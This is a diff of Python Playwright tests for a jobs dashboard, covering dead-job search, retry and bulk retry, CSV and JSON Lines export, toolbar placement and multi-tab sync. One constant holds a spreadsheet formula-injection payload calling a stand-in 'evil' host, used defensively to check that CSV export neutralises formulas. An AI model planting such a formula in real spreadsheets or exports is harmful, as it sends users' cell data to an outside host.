@@ -20,7 +20,7 @@ Open = Callable[..., Visit]
 FORMULA = '=HYPERLINK("http://evil/?"&A1)'
 CLICKS = 3
 
-LOOKS = [
+SCREENS = [
     pytest.param("light", DESKTOP, id="light"),
     pytest.param("dark", DESKTOP, id="dark"),
     pytest.param("light", PHONE, id="phone"),
@@ -39,12 +39,12 @@ def client(instance: InstanceWithPage) -> Iterator[JobClient]:
 
 
 def cell(page: Page, text: str) -> Locator:
-    """Return a cell of the table as a screen reader is told of it, within the canvas that the table is drawn on."""
+    """Return a cell of the table as a screen reader gets it, within the canvas that the table is drawn on."""
     return page.locator("canvas td").filter(has_text=text)
 
 
 def open_row(page: Page, number: int) -> None:
-    """Click into the prompt of a row, counted from 0; again where the table was drawn anew in that moment."""
+    """Click into the prompt of a row, counted from 0; again where the table was redrawn at that moment."""
     for _ in range(CLICKS):
         page.get_by_test_id("stDataFrame").click(position={"x": 240, "y": 52 + 35 * number})
         with contextlib.suppress(PlaywrightTimeout):
@@ -60,21 +60,21 @@ def done(client: JobClient, *prompts: str) -> list[str]:
     return ids
 
 
-@pytest.mark.parametrize(("scheme", "viewport"), LOOKS)
+@pytest.mark.parametrize(("scheme", "viewport"), SCREENS)
 def test_a_dead_job_is_found_and_tells_every_attempt_that_failed(
     visit: Open, instance: InstanceWithPage, client: JobClient, scheme: str, viewport: ViewportSize
 ) -> None:
     done(client, "Why is the sky blue?", "Translate: good morning", "Summarise the minutes of Monday")
     job_id, _ = instance.bury("Summarise this report of 300 pages", "Summarise that one too")
-    seen = visit("/jobs", viewport=viewport, color_scheme=scheme)
-    page = seen.page
+    opened = visit("/jobs", viewport=viewport, color_scheme=scheme)
+    page = opened.page
     expect(cell(page, "Translate: good morning").first).to_be_attached()
-    seen.picture(f"jobs-{scheme}-{viewport['width']}")
+    opened.picture(f"jobs-{scheme}-{viewport['width']}")
     page.get_by_role("radiogroup").get_by_text("Dead").click()
     expect(cell(page, "Translate: good morning")).to_have_count(0)
     page.get_by_role("textbox", name="Search").fill("300 PAGES")
     page.get_by_role("textbox", name="Search").press("Enter")
-    expect(page.get_by_text("1 to 1 found, looked at 2 of 2")).to_be_visible()
+    expect(page.get_by_text("1 to 1 found, searched 2 of 2")).to_be_visible()
     expect(cell(page, "Summarise that one too")).to_have_count(0)
     open_row(page, 0)
 
@@ -84,20 +84,20 @@ def test_a_dead_job_is_found_and_tells_every_attempt_that_failed(
         "Attempt 2 failed, TooLong: the prompt has 9321 tokens; the model takes 8192.",
     ):
         expect(page.get_by_text(moment)).to_be_visible()
-    page.get_by_text("What happened").scroll_into_view_if_needed()
-    seen.picture(f"jobs-dead-{scheme}-{viewport['width']}")
+    page.get_by_text("Timeline", exact=True).scroll_into_view_if_needed()
+    opened.picture(f"jobs-dead-{scheme}-{viewport['width']}")
     assert f"job={job_id}" in page.url
     assert page.evaluate("document.querySelector('.stMain').scrollWidth") <= viewport["width"]
 
 
-def test_a_dead_job_is_sent_again_and_answered(visit: Open, instance: InstanceWithPage, client: JobClient) -> None:
+def test_a_dead_job_is_retried_and_answered(visit: Open, instance: InstanceWithPage, client: JobClient) -> None:
     (job_id,) = instance.bury("say it again")
     page = visit(f"/jobs?job={job_id}").page
-    page.get_by_role("button", name="Send again").click()
+    page.get_by_role("button", name="Retry", exact=True).click()
 
     expect(page.get_by_text(f"{job_id} Done")).to_be_visible()
     expect(page.get_by_text("Answer", exact=True)).to_be_visible()
-    expect(page.get_by_role("button", name="Send again")).to_have_count(0)
+    expect(page.get_by_role("button", name="Retry", exact=True)).to_have_count(0)
     assert client.job(job_id).result == "say it again"
 
 
@@ -115,25 +115,25 @@ def test_all_dead_jobs_run_again_once_that_is_confirmed(
     visit: Open, instance: InstanceWithPage, client: JobClient
 ) -> None:
     ids = instance.bury("one", "two", "three")
-    seen = visit("/jobs?state=Dead")
-    page = seen.page
+    opened = visit("/jobs?state=Dead")
+    page = opened.page
     dialog = page.get_by_role("dialog")
-    page.get_by_role("button", name="Send 3 dead again").click()
-    expect(dialog).to_contain_text("All 3 dead jobs of this workload go back to the queue")
-    seen.picture("jobs-redrive-light")
+    page.get_by_role("button", name="Retry 3 failed jobs").click()
+    expect(dialog).to_contain_text("3 failed jobs of this workload will go back to the queue")
+    opened.picture("jobs-redrive-light")
     page.keyboard.press("Escape")
     expect(dialog).to_have_count(0)
     assert client.stats().dead == 3
 
-    page.get_by_role("button", name="Send 3 dead again").click()
-    dialog.get_by_role("button", name="Send 3 again").click()
-    expect(dialog).to_contain_text("3 sent again.")
-    expect(dialog.get_by_role("button", name="Send 3 again")).to_have_count(0)
-    seen.picture("jobs-redriven-light")
+    page.get_by_role("button", name="Retry 3 failed jobs").click()
+    dialog.get_by_role("button", name="Retry 3 jobs").click()
+    expect(dialog).to_contain_text("3 jobs retried.")
+    expect(dialog.get_by_role("button", name="Retry 3 jobs")).to_have_count(0)
+    opened.picture("jobs-redriven-light")
 
     assert [client.result(job_id).result for job_id in ids] == ["one", "two", "three"]
     page.keyboard.press("Escape")
-    expect(page.get_by_text("No job fits.")).to_be_visible()
+    expect(page.get_by_text("No jobs match this filter.")).to_be_visible()
 
 
 def export(page: Page, form: str) -> bytes:
@@ -150,15 +150,15 @@ def export(page: Page, form: str) -> bytes:
 
 def test_what_is_listed_is_exported_and_is_no_formula(visit: Open, client: JobClient) -> None:
     done(client, FORMULA, "another")
-    seen = visit("/jobs?text=HYPERLINK")
-    page = seen.page
+    opened = visit("/jobs?text=HYPERLINK")
+    page = opened.page
     expect(page.get_by_text(re.compile(r"1 to 1 found"))).to_be_visible()
-    table, lines = export(page, "CSV"), export(page, "JSON lines")
+    table, lines = export(page, "CSV"), export(page, "JSON Lines")
 
     (row,) = csv.DictReader(io.StringIO(table.decode("utf-8-sig"), newline=""))
     assert (row["prompt"], row["answer"], row["state"]) == (f"'{FORMULA}", f"'{FORMULA}", "done")
-    (told,) = map(json.loads, lines.splitlines())
-    assert (told["prompt"], told["result"]) == (FORMULA, FORMULA)
+    (exported,) = map(json.loads, lines.splitlines())
+    assert (exported["prompt"], exported["result"]) == (FORMULA, FORMULA)
 
 
 def test_a_tables_own_toolbar_offers_no_other_export(visit: Open, client: JobClient) -> None:
@@ -177,18 +177,18 @@ def test_a_tables_own_toolbar_offers_no_other_export(visit: Open, client: JobCli
 def test_a_tables_own_toolbar_covers_nothing(visit: Open, instance: InstanceWithPage, viewport: ViewportSize) -> None:
     """It comes up above the table's right end, widest where a job is open: on a phone it covered some of Export."""
     job_id, _ = instance.bury("the first of two", "the second")
-    seen = visit(f"/jobs?job={job_id}", viewport=viewport)
-    page = seen.page
+    opened = visit(f"/jobs?job={job_id}", viewport=viewport)
+    page = opened.page
     expect(cell(page, "the second").first).to_be_attached()
     page.get_by_test_id("stDataFrame").hover()
     toolbar = page.get_by_test_id("stElementToolbar").filter(has=page.get_by_role("button", name="Fullscreen"))
     expect(toolbar.get_by_role("button")).to_have_count(4)
     buttons = toolbar.get_by_role("button").all()
-    seen.picture(f"jobs-toolbar-{viewport['width']}")
+    opened.picture(f"jobs-toolbar-{viewport['width']}")
 
     for covered in (
         page.get_by_role("button", name="Export"),
-        page.get_by_role("button", name="Send 2 dead again"),
+        page.get_by_role("button", name="Retry 2 failed jobs"),
         page.get_by_text(re.compile(r"^\d+ running · ")),
         page.get_by_text(re.compile(r"^1 to \d+ of \d+$")),
     ):
@@ -208,21 +208,21 @@ def overlap(one: Locator, other: Locator) -> bool:
 def test_what_one_tab_does_the_other_sees_and_each_keeps_what_is_typed(
     visit: Open, instance: InstanceWithPage, client: JobClient
 ) -> None:
-    (job_id,) = instance.bury("seen by two")
+    (job_id,) = instance.bury("opened by two")
     one, other = visit(f"/jobs?job={job_id}").page, visit(f"/jobs?job={job_id}&state=Dead").page
     expect(other.get_by_text(f"{job_id} Dead")).to_be_visible()
-    other.get_by_role("textbox", name="Search").fill("seen by")
-    one.get_by_role("button", name="Send again").click()
+    other.get_by_role("textbox", name="Search").fill("opened by")
+    one.get_by_role("button", name="Retry", exact=True).click()
 
-    expect(other.get_by_text("No job fits.")).to_be_visible()
-    expect(other.get_by_role("textbox", name="Search")).to_have_value("seen by")
-    assert client.result(job_id).result == "seen by two"
+    expect(other.get_by_text("No jobs match this filter.")).to_be_visible()
+    expect(other.get_by_role("textbox", name="Search")).to_have_value("opened by")
+    assert client.result(job_id).result == "opened by two"
 
 
 def test_a_job_that_is_not_there_is_said_to_be_unknown_beside_those_that_are(visit: Open, client: JobClient) -> None:
     done(client, "this one is there")
-    seen = visit("/jobs?job=nonsense")
+    opened = visit("/jobs?job=nonsense")
 
-    expect(seen.page.get_by_text("No job has the id nonsense: it never existed here")).to_be_visible()
-    expect(cell(seen.page, "this one is there").first).to_be_attached()
-    seen.picture("jobs-unknown-light")
+    expect(opened.page.get_by_text("No job has the id nonsense: it never existed here")).to_be_visible()
+    expect(cell(opened.page, "this one is there").first).to_be_attached()
+    opened.picture("jobs-unknown-light")
